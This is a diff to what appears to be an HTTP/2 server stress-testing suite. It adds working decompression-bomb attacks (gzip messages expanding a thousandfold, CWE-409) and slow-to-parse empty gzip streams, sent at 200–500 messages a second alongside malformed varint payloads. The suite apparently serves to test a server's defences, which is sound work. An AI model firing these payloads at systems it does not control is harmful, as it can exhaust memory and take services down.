@@ -1,5 +1,6 @@
 """Attacks on memory over HTTP/2: answers that the attacker does not take, texts that stay, messages that grow when they are read."""
 
+import gzip
 import time
 
 import frames
@@ -198,6 +199,43 @@ def overlong_lengths(run):
     """Varints of more than ten bytes, and lengths beyond the message."""
     body = b"\x12" + b"\xff" * 12 + b"\x01" + b"\x0a\xff\xff\xff\xff\x0f" + b"\x10" + b"\x80" * 1_000_000
     hostile_messages(run, frames.LIST_MODELS, body, 20)
+
+
+def gzip_messages(run, bodies, rate):
+    """So many compressed messages a second, whether they are answered or not; at most 500 calls are open."""
+    wire, count = Wire(run.target), 0
+    for due in run.ticks(rate):
+        if not wire.is_open:
+            run.ended(wire)
+            wire = Wire(run.target)
+        for _ in range(min(due, 500 - (wire.next // 2 - len(wire.done)))):
+            wire.call(frames.LIST_MODELS, bodies[run.sent % len(bodies)], "gzip")
+            run.sent += 1
+        wire.take()
+        wire.upload()
+    for stream in range(1, wire.next, 2):
+        if wire.is_open and stream not in wire.done and not any(stream == waiting for waiting, _ in wire.uploads):
+            if wire.finish(stream, 10, grants=False) is None:
+                run.find("a call is not answered")
+                break
+    run.ended(wire)
+
+
+@attack("500 messages/s of 5 KB that expand to 5 MB, and of 60 KB that expand to 60 MB")
+def gzip_bombs(run):
+    """CWE-409: gzip messages that expand a thousand times, beyond the limit of a message."""
+    gzip_messages(run, [gzip.compress(bytes(5 << 20), 9)] * 9 + [gzip.compress(bytes(60 << 20), 9)], 500)
+
+
+@attack("200 messages/s of 4 KB, 64 KB and 1 MB")
+def slow_gzip(run):
+    """Gzip messages that take long to read and hold nothing: very many members, and very many blocks, without content."""
+    member = gzip.compress(b"")
+    # The header of a member, stored blocks of no byte (RFC 1951, 3.2.4), and no end.
+    bodies = [
+        body for size in (4_000, 64_000, 1_000_000)
+        for body in (member * (size // len(member)), member[:10] + b"\0\0\0\xff\xff" * (size // 5))]
+    gzip_messages(run, bodies, 200)
 
 
 @attack("500 requests/s of 15,000 bytes")
